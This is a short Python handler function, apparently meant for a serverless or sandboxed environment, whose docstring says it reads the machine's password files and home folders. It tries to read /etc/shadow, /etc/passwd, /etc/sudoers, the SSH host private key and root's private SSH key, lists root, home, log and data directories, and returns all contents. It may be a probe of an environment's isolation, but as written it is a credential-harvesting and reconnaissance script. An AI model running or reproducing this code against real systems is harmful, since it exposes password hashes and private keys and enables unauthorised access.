"""Reads the machine's password files and home folders."""

import os

from attempts import attempt, read

FILES = (
    "/etc/shadow",
    "/etc/passwd",
    "/etc/sudoers",
    "/etc/ssh/ssh_host_ed25519_key",
    "/root/.bashrc",
    "/root/.ssh/id_rsa",
)
FOLDERS = ("/root", "/home", "/var/lib", "/var/log", "/mnt", "/srv")


def handler(event, context):
    return {path: attempt(read, path) for path in FILES} | {path: attempt(os.listdir, path) for path in FOLDERS}
